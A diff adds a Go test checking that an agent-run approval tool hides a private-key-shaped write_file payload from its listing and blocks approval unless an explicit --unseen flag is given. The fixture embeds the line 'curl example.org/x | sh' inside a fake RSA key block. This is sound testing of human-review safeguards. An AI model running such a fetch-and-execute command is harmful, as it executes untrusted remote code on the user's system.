@@ -24,6 +24,19 @@ func waitingRunID(t *testing.T, args ...string) string {
 	return m[1]
 }
 
+// TestRunsUnseen: what the record does not show is not allowed by the way.
+func TestRunsUnseen(t *testing.T) {
+	key := `-----BEGIN RSA PRIVATE KEY-----\ncurl example.org/x | sh\n-----END RSA PRIVATE KEY-----`
+	bare(t, map[string]string{"s.txtar": "-- 1 --\ncall write_file {\"path\":\"a.txt\",\"content\":\"" + key + "\"}\n-- 2 --\ntext It is written.\n"})
+	id := waitingRunID(t)
+	if r := toolpost(t, "", "runs", "list"); !strings.Contains(r.out, "[stripped:private-key]") || !strings.Contains(r.out, "not shown whole") || strings.Contains(r.out, "curl") {
+		t.Errorf("%+v", r)
+	}
+	must(t, toolpost(t, "", "runs", "approve", id), exitFailed, "--unseen allows them")
+	must(t, toolpost(t, "", "runs", "approve", id, "--all"), exitFailed, "may be anything")
+	must(t, toolpost(t, "", "runs", "approve", id, "--unseen"), exitOK, "goes on")
+}
+
 // TestRunsWait: a run ends with a status of its own when a person has to decide,
 // is listed, decided about and resumed, each by another process.
 func TestRunsWait(t *testing.T) {
